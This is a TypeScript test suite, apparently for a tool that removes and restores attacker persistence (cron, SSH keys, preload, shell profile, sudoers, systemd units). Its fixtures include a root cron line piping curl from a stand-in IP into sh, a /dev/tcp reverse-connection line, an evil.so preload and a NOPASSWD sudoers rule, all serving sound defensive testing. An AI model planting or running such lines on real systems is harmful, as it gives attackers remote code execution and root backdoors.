import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import {
  appendFileSync,
  copyFileSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readlinkSync,
  renameSync,
  rmdirSync,
  statSync,
  symlinkSync,
} from 'node:fs';
import { dirname, join } from 'node:path';
import { describe, it } from 'node:test';
import type { ActionRefusedError } from '../../src/errors.ts';
import type { RevertOrder } from '../../src/persistence/parameters.ts';
import { type RevertInverse, type RevertWork, revertKind } from '../../src/persistence/revert.ts';
import { snapshot } from '../files/file-systems.ts';
import { RunKind } from '../files/run-kind.ts';
import { TestHost } from './host.ts';

const skip = process.geteuid?.() === 0 ? false : 'needs root: it changes owners and flags';
const CHILD = join(import.meta.dirname, 'edit-child.ts');
const EVIL = '* * * * * root curl http://203.0.113.1/x | sh';

function reverting(host: TestHost): RunKind<RevertOrder, RevertWork, RevertInverse> {
  return new RunKind(revertKind({ vault: host.vault, hostRoot: host.root, systemctl: null }));
}

const refusal = (reason: string, message: RegExp) => (error: ActionRefusedError) => {
  assert.equal(error.reason, reason, error.message);
  assert.match(error.message, message);
  return true;
};

/** A line that each kind of persistence has, the order that names it, and its neighbours. */
const LINES = [
  { what: 'cron', path: '/etc/crontab', line: EVIL },
  { what: 'authorized-key', path: '/home/eve/.ssh/authorized_keys', line: 'command="a b" ssh-ed25519 AAAAC3Nz eve' },
  { what: 'preload', path: '/etc/ld.so.preload', line: '/tmp/evil.so' },
  { what: 'profile-line', path: '/home/eve/.bashrc', line: 'exec 3<>/dev/tcp/203.0.113.1/443' },
  { what: 'sudoers', path: '/etc/sudoers', line: 'eve ALL=(ALL) NOPASSWD: ALL' },
] as const;

describe('revert of a line', { skip }, () => {
  for (const { what, path, line } of LINES)
    for (const [where, text] of [
      ['first', `${line}\nkept one\nkept two\n`],
      ['in the middle', `kept one\n${line}\nkept two\n`],
      ['last, without a line break', `kept one\nkept \xff\n${line}`],
      ['twice', `${line}\nkept one\n${line}\n`],
      ['alone', `${line}\n`],
    ] as const)
      it(`takes it out and puts it back byte for byte: ${what}, ${where}`, async () => {
        using host = new TestHost();
        host.writeRich(path, text);
        const before = snapshot(host.at(path));
        const revert = reverting(host);
        const order = what === 'preload' ? { what, line } : { what, path, line };
        assert.equal((await revert.run(order)).outcome, 'executed');
        assert.equal(host.read(path).includes(line), false);
        assert.equal(host.read(path).match(/kept/g)?.length ?? 0, text.match(/kept/g)?.length ?? 0);
        const { uid, mode } = statSync(host.at(path));
        assert.deepEqual([uid, mode & 0o7777], [1234, 0o4755]);
        assert.equal((await revert.undo()).facts['restored'], 'as before');
        assert.deepEqual(snapshot(host.at(path)), before);
        await revert.undo();
        assert.deepEqual(snapshot(host.at(path)), before);
        assert.deepEqual(readdirSync(dirname(host.at(path))), [path.split('/').at(-1)]);
      });

  it('finds a key by the fingerprint that ssh-keygen prints', async (t) => {
    using host = new TestHost();
    const key = host.at('/key');
    if (spawnSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', key]).status !== 0)
      return t.skip('ssh-keygen is not installed');
    const line = host.read('/key.pub').trimEnd();
    const fingerprint = execFileSync('ssh-keygen', ['-lf', `${key}.pub`], { encoding: 'utf8' }).split(' ')[1];
    const path = '/root/.ssh/authorized_keys';
    host.write(path, `ssh-rsa AAAAB3Nz kept\nfrom="10.0.0.1",command="echo hi" ${line}\n`);
    await reverting(host).run({ what: 'authorized-key', path, fingerprint });
    assert.equal(host.read(path), 'ssh-rsa AAAAB3Nz kept\n');
  });

  it('puts the line behind the same line when the file was changed since, and at the end when that is gone', async () => {
    for (const [now, then, note] of [
      ['new\na\nb\n', `new\na\n${EVIL}\nb\n`, 'the line follows the same line again'],
      ['b\nc', `b\nc\n${EVIL}\n`, 'the line is at the end now'],
      [`${EVIL}\nb\n`, `${EVIL}\nb\n`, 'the line stands there already'],
    ] as const) {
      using host = new TestHost();
      host.write('/etc/crontab', `a\n${EVIL}\nb\n`);
      const revert = reverting(host);
      await revert.run({ what: 'cron', path: '/etc/crontab', line: EVIL });
      host.write('/etc/crontab', now, 0o640);
      assert.match((await revert.undo()).facts['restored'] ?? '', new RegExp(note));
      assert.equal(host.read('/etc/crontab'), then);
      assert.equal(statSync(host.at('/etc/crontab')).mode & 0o777, 0o640);
      await revert.undo();
      assert.equal(host.read('/etc/crontab'), then);
    }
  });

  it('adds no line by the undo of an edit that never was', async () => {
    using host = new TestHost();
    host.write('/etc/crontab', `a\n${EVIL}\n`);
    const revert = reverting(host);
    const plan = await revert.plan({ what: 'cron', path: '/etc/crontab', line: EVIL });
    host.write('/etc/crontab', 'a\n');
    assert.match((await revert.undo(JSON.stringify(plan.inverse))).facts['restored'] ?? '', /was never edited/);
    assert.equal(host.read('/etc/crontab'), 'a\n');
  });

  it('refuses a file that was changed after the plan, whether in place or by a rename', async () => {
    for (const change of ['place', 'rename']) {
      using host = new TestHost();
      const path = host.at('/etc/crontab');
      host.write('/etc/crontab', `a\n${EVIL}\n`);
      const between = (): void => {
        if (change === 'rename') copyFileSync(path, `${path}.new`);
        if (change === 'rename') renameSync(`${path}.new`, path);
        else appendFileSync(path, 'b\n');
      };
      const running = reverting(host).run({ what: 'cron', path: '/etc/crontab', line: EVIL }, between);
      await assert.rejects(running, refusal('not-the-target', /was changed meanwhile/));
      assert.match(host.read('/etc/crontab'), /curl.*\n(b\n)?$/);
      assert.equal(readdirSync(dirname(path)).length, 1);
    }
  });

  it('adds no line by the undo of a refused action, whose line others have taken out meanwhile', async () => {
    using host = new TestHost();
    const path = host.at('/etc/crontab');
    host.write('/etc/crontab', `a\n${EVIL}\n`);
    const others = (): void => {
      host.write('/etc/crontab.new', 'a\n');
      renameSync(`${path}.new`, path);
    };
    const revert = reverting(host);
    await assert.rejects(
      revert.run({ what: 'cron', path: '/etc/crontab', line: EVIL }, others),
      refusal('not-the-target', /was changed meanwhile/),
    );
    await revert.undo();
    assert.equal(host.read('/etc/crontab'), 'a\n');
  });

  it('leaves nothing of an edit that another program overtakes in its last moment', async () => {
    using host = new TestHost();
    const path = host.at('/etc/crontab');
    host.write('/etc/crontab', `a\n${EVIL}\n`);
    const failpoint = (point: string): void => {
      if (point === 'written') appendFileSync(path, 'b\n');
    };
    const revert = new RunKind(revertKind({ vault: host.vault, hostRoot: host.root, systemctl: null, failpoint }));
    const running = revert.run({ what: 'cron', path: '/etc/crontab', line: EVIL });
    await assert.rejects(running, refusal('not-the-target', /was changed meanwhile/));
    assert.equal(host.read('/etc/crontab'), `a\n${EVIL}\nb\n`);
    assert.equal(readdirSync(dirname(path)).length, 1);
  });

  it('takes a line out of an immutable file, which is immutable again then', async (t) => {
    using host = new TestHost();
    const path = host.at('/etc/ld.so.preload');
    host.write('/etc/ld.so.preload', '/tmp/evil.so\n');
    if (spawnSync('chattr', ['+i', path]).status !== 0) return t.skip('this file system has no immutable flag');
    const isImmutable = (): boolean => execFileSync('lsattr', [path], { encoding: 'utf8' }).slice(0, 20).includes('i');
    const revert = reverting(host);
    await revert.run({ what: 'preload', line: '/tmp/evil.so' });
    assert.deepEqual([host.read('/etc/ld.so.preload'), isImmutable()], ['', true]);
    await revert.undo();
    assert.deepEqual([host.read('/etc/ld.so.preload'), isImmutable()], ['/tmp/evil.so\n', true]);
  });

  it('is refused for files that hold no such persistence, also through a link', async () => {
    using host = new TestHost();
    host.write('/etc/fstab', 'x\n');
    host.write('/etc/sudoers', 'a \\\nb\n');
    mkdirSync(host.at('/home/eve/.ssh'), { recursive: true });
    symlinkSync('/etc/fstab', host.at('/home/eve/.ssh/authorized_keys'));
    const revert = reverting(host);
    const keys = { what: 'authorized-key', path: '/home/eve/.ssh/authorized_keys', line: 'x' };
    await assert.rejects(revert.plan(keys), refusal('not-the-target', /fstab is no place/));
    await assert.rejects(
      revert.plan({ what: 'cron', path: '/etc/fstab', line: 'x' }),
      refusal('not-the-target', /no place/),
    );
    await assert.rejects(revert.plan({ what: 'sudoers', path: '/etc/sudoers' }), refusal('protected', /name the line/));
    const continued = { what: 'sudoers', path: '/etc/sudoers', line: 'b' };
    await assert.rejects(revert.plan(continued), refusal('not-possible', /by hand/));
    assert.equal(host.read('/etc/fstab'), 'x\n');
  });

  it('follows links within the root alone', async () => {
    using host = new TestHost();
    using outside = new TestHost();
    outside.write('/etc/crontab', `${EVIL}\n`);
    host.write('/etc/cron.d/job', `${EVIL}\n`);
    mkdirSync(host.at('/var'), { recursive: true });
    symlinkSync('/etc', host.at('/var/inside'));
    symlinkSync(outside.at('/etc'), host.at('/var/outside'));
    const revert = reverting(host);
    assert.equal((await revert.run({ what: 'cron', path: '/var/outside/crontab', line: EVIL })).outcome, 'gone');
    assert.equal((await revert.run({ what: 'cron', path: '/var/inside/cron.d/job', line: EVIL })).outcome, 'executed');
    assert.deepEqual([host.read('/etc/cron.d/job'), outside.read('/etc/crontab')], ['', `${EVIL}\n`]);
  });

  for (const point of ['written', 'exchanged', 'edited'])
    it(`is whole after a kill of the edit or of its undo at '${point}'`, async () => {
      using host = new TestHost();
      host.writeRich('/etc/crontab', `a\n${EVIL}\n`);
      const before = snapshot(host.at('/etc/crontab'));
      const order = { what: 'cron', path: '/etc/crontab', line: EVIL };
      const revert = reverting(host);
      const crash = (what: string, text: string): void => {
        const args = ['--conditions=@ringfence/source', '--disable-warning=ExperimentalWarning', CHILD];
        const child = spawnSync(process.execPath, [...args, host.root, point, what, text], { encoding: 'utf8' });
        assert.equal(child.signal, 'SIGKILL', child.stderr);
      };
      const { inverse } = await revert.plan(order);
      crash('apply', JSON.stringify(order));
      await revert.undo(JSON.stringify(inverse));
      assert.deepEqual(snapshot(host.at('/etc/crontab')), before);
      const again = JSON.stringify((await revert.plan(order)).inverse);
      await revert.run(order);
      crash('undo', again);
      await revert.undo(again);
      assert.deepEqual(snapshot(host.at('/etc/crontab')), before);
      assert.deepEqual(readdirSync(host.at('/etc')), ['crontab']);
    });
});

describe('revert of a whole file', { skip }, () => {
  it('takes a unit with the links that enable it, and puts both back', async () => {
    using host = new TestHost();
    const [path, wants] = ['/etc/systemd/system/evil.service', '/etc/systemd/system/multi-user.target.wants'];
    host.writeRich(path, '[Service]\nExecStart=/tmp/evil\n');
    for (const link of ['a.service', 'evil.service']) {
      mkdirSync(host.at(wants), { recursive: true });
      symlinkSync(link === 'evil.service' ? path : '../a.service', host.at(join(wants, link)));
    }
    symlinkSync('evil.service', host.at('/etc/systemd/system/alias.service'));
    const before = snapshot(host.at(path));
    const revert = reverting(host);
    const plan = await revert.plan({ what: 'unit', path });
    assert.equal(plan.targets.length, 3);
    const { facts } = await revert.run({ what: 'unit', path });
    assert.match(facts['systemd'] ?? '', /does not run here/);
    assert.equal(existsSync(host.at(path)), false);
    assert.deepEqual(readdirSync(host.at(wants)), ['a.service']);
    assert.equal((await revert.undo()).outcome, 'executed');
    assert.deepEqual(snapshot(host.at(path)), before);
    assert.equal(readlinkSync(host.at(join(wants, 'evil.service'))), path);
    assert.ok(lstatSync(host.at('/etc/systemd/system/alias.service')).isSymbolicLink());
    assert.equal((await revert.undo()).outcome, 'executed');
  });

  it('makes no link through a folder that a user has led elsewhere', async () => {
    using host = new TestHost();
    const [units, wanted] = ['/home/eve/.config/systemd/user', '/etc/systemd/system/multi-user.target.wants'];
    host.write(`${units}/evil.service`, '[Service]\n');
    for (const folder of [`${units}/default.target.wants`, wanted]) mkdirSync(host.at(folder), { recursive: true });
    symlinkSync('../evil.service', host.at(`${units}/default.target.wants/evil.service`));
    const revert = reverting(host);
    const { facts } = await revert.run({ what: 'unit', path: `${units}/evil.service` });
    assert.equal(facts['links'], '1');
    rmdirSync(host.at(`${units}/default.target.wants`));
    symlinkSync(host.at(wanted), host.at(`${units}/default.target.wants`));
    assert.match((await revert.undo()).reason, /could not be made again/);
    assert.deepEqual(readdirSync(host.at(wanted)), []);
    assert.ok(existsSync(host.at(`${units}/evil.service`)));
  });

  for (const [what, path] of [
    ['timer', '/etc/systemd/system/evil.timer'],
    ['cron', '/etc/cron.d/evil'],
    ['sudoers', '/etc/sudoers.d/evil'],
    ['unit', '/home/eve/.config/systemd/user/evil.service'],
  ] as const)
    it(`takes ${path} and gives it back`, async () => {
      using host = new TestHost();
      host.writeRich(path, 'evil\n');
      const before = snapshot(host.at(path));
      const revert = reverting(host);
      assert.equal((await revert.run({ what, path })).outcome, 'executed');
      assert.equal(existsSync(host.at(path)), false);
      await revert.undo();
      assert.deepEqual(snapshot(host.at(path)), before);
    });
});
